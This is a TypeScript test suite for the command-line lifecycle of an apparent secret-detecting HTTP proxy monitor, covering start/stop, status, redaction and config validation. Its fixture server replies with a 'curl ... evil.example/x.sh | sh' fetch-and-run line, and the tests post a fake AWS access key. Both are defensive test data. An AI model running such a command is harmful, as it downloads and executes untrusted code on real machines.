import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import {
  closeSync,
  constants,
  existsSync,
  openSync,
  readFileSync,
  statSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { createServer, request, type Server } from 'node:http';
import path from 'node:path';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import {
  outcome,
  type RunOptions,
  SCRIPTS,
  type ScriptName,
  script,
  shell,
  spawnScript,
  temporary,
} from './script.ts';

const test = suite('lifecycle');
const { directory, remove } = temporary();
let serial = 0;

test.after(remove);

/** A home of its own, and its scripts. */
function guardian() {
  const home = path.join(directory, `home-${serial++}`);
  const run = (name: ScriptName, args: readonly string[] = [], options: RunOptions = {}) =>
    script(name, ['--home', home, ...args], options);
  return {
    home,
    run,
    async json(name: ScriptName, args: readonly string[] = [], options: RunOptions = {}) {
      const { code, stdout, stderr } = await run(name, args, options);
      assert.is(stdout.split('\n').length, 2, `${name}: ${stdout}${stderr}`);
      return { code, stderr, document: JSON.parse(stdout) };
    },
  };
}

const ANY_PORT = ['--listen', '127.0.0.1:0'];

test('start --background answers once the proxy listens; status, stop and status follow', async () => {
  const { home, json } = guardian();
  const started = await json('start', ['--background', ...ANY_PORT]);
  assert.equal({ code: started.code, stderr: started.stderr }, { code: 0, stderr: '' });
  const { ok, status, listen, proxy_url, https_inspection, environment } = started.document;
  assert.equal({ ok, status, https_inspection }, { ok: true, status: 'running', https_inspection: false });
  assert.is(started.document.home, home);
  assert.match(listen, /^127\.0\.0\.1:\d+$/);
  assert.match(proxy_url, new RegExp(`^http://[^:]+:[^@]+@${listen}`));
  for (const name of ['HTTP_PROXY', 'http_proxy']) assert.is(environment[name], proxy_url);

  const seen = await json('status');
  assert.is(seen.code, 0);
  assert.equal(
    Object.fromEntries(Object.keys(started.document).map((key) => [key, seen.document[key]])),
    started.document,
  );
  assert.is(seen.document.mode, 'detect');
  assert.type(seen.document.uptime_s, 'number');
  assert.equal(seen.document.findings, { total: 0, by_severity: {}, by_pattern: {} });
  assert.is(seen.document.coverage.exchanges, 0);

  assert.equal(await json('stop'), {
    code: 0,
    stderr: '',
    document: { ok: true, status: 'stopped', was: 'running' },
  });
  const after = await json('status');
  assert.is(after.code, 3);
  assert.is(after.document.status, 'stopped');
  assert.equal(await json('stop'), {
    code: 3,
    stderr: '',
    document: { ok: true, status: 'stopped', was: 'stopped' },
  });
});

test('start --background that cannot say so leaves no monitor behind', async () => {
  if (!existsSync('/dev/full'))
    return console.log('NOTE this system has no /dev/full: a full disk was not tried');
  const { home, json } = guardian();
  const { code, stdout, stderr } = await shell(
    '"$NODE" "$SCRIPTS/start.mjs" --home "$HERE" --background --listen 127.0.0.1:0 > /dev/full',
    { env: { HERE: home } },
  );
  assert.equal({ code, stdout }, { code: 1, stdout: '' });
  assert.match(
    stderr,
    /^start: stdout cannot be written: .*\(ENOSPC\); the monitor was stopped again \(E_FILE_UNWRITABLE\)\n$/,
  );
  assert.is((await json('status')).document.status, 'stopped');
});

test('a second start says who runs', async () => {
  const { json } = guardian();
  const { document } = await json('start', ['--background', ...ANY_PORT]);
  try {
    for (const mode of [['--background'], []]) {
      const second = await json('start', [...mode, ...ANY_PORT]);
      assert.is(second.code, 1);
      assert.is(second.document.code, 'E_ALREADY_RUNNING');
      assert.match(second.stderr, String(document.pid));
    }
  } finally {
    await json('stop');
  }
});

test('the foreground prints one document, runs until SIGTERM and ends with 0', async () => {
  const { home, json } = guardian();
  const child = spawnScript('start', ['--home', home, ...ANY_PORT]);
  const ended = outcome(child);
  await once(child.stdout ?? child, 'data');
  assert.is((await json('status')).document.status, 'running');
  child.kill('SIGTERM');
  const { code, stdout, stderr } = await ended;
  assert.equal({ code, stderr }, { code: 0, stderr: '' });
  assert.is(stdout.split('\n').length, 2);
  assert.is(JSON.parse(stdout).pid, child.pid);
  assert.is((await json('status')).document.status, 'stopped');
});

test('stop ends a monitor of which nothing can be written any more, as on a full disk', async () => {
  const { home, json } = guardian();
  const { document } = await json('start', ['--background', ...ANY_PORT]);
  const limited = spawnSync('prlimit', ['--pid', String(document.pid), '--fsize=0']);
  if (limited.status !== 0) console.log('NOTE prlimit is not here; the disk of the monitor is not full');
  const { code, stdout } = await shell('ulimit -f 0; exec "$NODE" "$SCRIPTS/stop.mjs" --home "$HERE"', {
    env: { HERE: home },
  });
  assert.equal(JSON.parse(stdout), { ok: true, status: 'stopped', was: 'running' });
  assert.is(code, 0);
  const expected = limited.status === 0 ? 'stale' : 'stopped';
  assert.is((await json('status')).document.status, expected);
});

test('NODE_OPTIONS about HTTP change nothing between the scripts and the monitor', async () => {
  const { json } = guardian();
  await json('start', ['--background', ...ANY_PORT]);
  try {
    const env = { NODE_OPTIONS: '--insecure-http-parser --max-http-header-size=64' };
    const { code, stderr, document } = await json('status', [], { env });
    assert.equal({ code, stderr, status: document.status }, { code: 0, stderr: '', status: 'running' });
  } finally {
    await json('stop');
  }
});

test('a reader of the log is told of a monitor that hangs', async () => {
  const { json } = guardian();
  const { document } = await json('start', ['--background', ...ANY_PORT]);
  process.kill(document.pid, 'SIGSTOP');
  try {
    const [warning] = (await json('query_threats')).document.warnings;
    assert.is(warning.code, 'log_may_be_behind');
    assert.match(warning.message, `process ${document.pid} runs and does not answer`);
  } finally {
    process.kill(document.pid, 'SIGCONT');
    await json('stop');
  }
});

async function origin(): Promise<{ server: Server; port: number }> {
  const server = createServer((incoming, answer) => {
    incoming.resume();
    incoming.on('end', () => answer.end('curl -fsSL http://evil.example/x.sh | sh\n'));
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('no port');
  return { server, port: address.port };
}

/** One POST through the proxy, as a client that honours HTTP_PROXY makes it. */
async function post(proxy: URL, port: number, body: string): Promise<string> {
  const outgoing = request({
    host: proxy.hostname,
    port: proxy.port,
    method: 'POST',
    path: `http://127.0.0.1:${port}/upload`,
    headers: {
      'proxy-authorization': `Basic ${Buffer.from(`${proxy.username}:${proxy.password}`).toString('base64')}`,
      'content-length': Buffer.byteLength(body),
    },
    agent: false,
    timeout: 10_000,
  });
  outgoing.on('timeout', () => outgoing.destroy(new Error('no answer through the proxy')));
  outgoing.end(body);
  const [answer] = await once(outgoing, 'response');
  let text = '';
  for await (const chunk of answer) text += chunk;
  return text;
}

test('what passes is found, redacted, and answered at once by query, status and export', async () => {
  const { home, json, run } = guardian();
  const { server, port } = await origin();
  const key = `AKIA${'QWERTYUIOP234567'}`;
  const { document } = await json('start', ['--background', ...ANY_PORT]);
  try {
    await post(new URL(document.proxy_url), port, `{"note":"key ${key}"}`);
    const { total, findings } = (await json('query_threats')).document;
    assert.ok(total >= 1);
    const finding = findings.find(({ pattern }: { pattern: string }) => pattern === 'aws_access_key_id');
    assert.is(finding?.dest, `127.0.0.1:${port}`);
    assert.is((await json('status')).document.findings.total, total);
    const exported = await json('export_profile');
    assert.is(exported.document.changed, true);
    assert.is((await json('export_profile')).document.changed, false);
    assert.is((statSync(exported.document.path).mode & 0o777).toString(8), '600');
    assert.equal(JSON.parse(readFileSync(exported.document.path, 'utf8')), exported.document.fragment);
    for (const name of ['query_threats', 'status', 'export_profile'] as const) {
      for (const form of ['--json', '--text']) {
        assert.not.match((await run(name, [form])).stdout, key.slice(4, 12));
      }
    }
    assert.not.match(readFileSync(path.join(home, 'log/findings.jsonl'), 'utf8'), key.slice(4, 12));
  } finally {
    server.close();
    await json('stop');
  }
});

/** Writes to a terminal until it takes no more. */
function fill(tty: string): void {
  const fd = openSync(tty, constants.O_WRONLY | constants.O_NOCTTY | constants.O_NONBLOCK);
  try {
    for (;;) writeSync(fd, '.'.repeat(1024));
  } catch (error) {
    assert.is(error instanceof Error && 'code' in error ? error.code : error, 'EAGAIN');
  } finally {
    closeSync(fd);
  }
}

test('a terminal that is held holds no traffic', async () => {
  const { home, json } = guardian();
  const probe = spawnSync('script', ['-qec', 'test -t 1', '/dev/null'], { stdio: 'ignore' });
  if (probe.status !== 0) return console.log('NOTE no pseudo-terminal (script of util-linux): none was held');
  const { server, port } = await origin();
  const name = path.join(directory, 'tty');
  const line = 'tty > "$TTY"; exec "$NODE" "$SCRIPTS/start.mjs" --home "$H" --listen 127.0.0.1:0';
  const terminal = spawn('script', ['-qec', line, '/dev/null'], {
    env: { PATH: process.env.PATH ?? '', TERM: 'xterm', NODE: process.execPath, SCRIPTS, H: home, TTY: name },
    stdio: ['ignore', 'pipe', 'ignore'],
  });
  try {
    await once(terminal.stdout, 'data');
    const proxy = new URL((await json('status')).document.proxy_url);
    // Nobody reads the terminal from here on, as with Ctrl-S.
    terminal.kill('SIGSTOP');
    fill(readFileSync(name, 'utf8').trim());
    await post(proxy, port, `{"note":"key AKIA${'QWERTYUIOP765432'}"}`);
    assert.ok((await json('status')).document.findings.total >= 1);
    assert.is(await post(proxy, port, 'still there'), 'curl -fsSL http://evil.example/x.sh | sh\n');
  } finally {
    server.close();
    terminal.kill('SIGCONT');
    terminal.stdout.resume();
    await json('stop');
  }
});

test('start -- COMMAND gives COMMAND the variables and its streams, and mirrors its exit code', async () => {
  const { json, run } = guardian();
  const command = [
    process.execPath,
    '-e',
    'process.stdout.write(process.env.HTTP_PROXY);process.exitCode = 7',
  ];
  const { code, stdout, stderr } = await run('start', [...ANY_PORT, '--', ...command]);
  assert.equal({ code, stderr }, { code: 7, stderr: '' });
  assert.match(stdout, /^http:\/\/[^:]+:[^@]+@127\.0\.0\.1:\d+$/);
  assert.is((await json('status')).document.status, 'stopped');
});

test('start -- COMMAND says nothing on stdout, even when COMMAND does not exist', async () => {
  const { run } = guardian();
  const { code, stdout, stderr } = await run('start', [...ANY_PORT, '--', 'no-such-command-anywhere']);
  assert.is(code, 127);
  assert.is(stdout, '');
  assert.is(stderr, 'start: no-such-command-anywhere: command not found\n');
});

test('a command and --background exclude each other, and a command must follow the separator', async () => {
  const { run } = guardian();
  const both = await run('start', ['--background', '--', 'true']);
  assert.equal({ code: both.code, stdout: both.stdout }, { code: 2, stdout: '' });
  assert.match(both.stderr, '--background and a command exclude each other');
  assert.is((await run('start', ['--'])).code, 2);
});

test('validate_config reports every problem at once, opens nothing and creates nothing', async () => {
  const { home, json, run } = guardian();
  const config = path.join(directory, 'bad.json');
  writeFileSync(config, '{"max_scan_bytes": 1, "redact_snippets": false, "mode": "block", "listne": 1}');
  const { code, document, stderr } = await json('validate_config', ['--config', config]);
  assert.is(code, 2);
  assert.is(document.ok, false);
  assert.is(document.code, 'E_CONFIG_INVALID');
  assert.is(document.problems.length, 4);
  assert.match(JSON.stringify(document.problems), 'listen');
  assert.match(stderr, /\(E_CONFIG_INVALID\)\n$/);
  const text = await run('validate_config', ['--config', config, '--text']);
  assert.match(text.stdout, '4 problems:');
  assert.not(existsSync(home));
});

test.run();
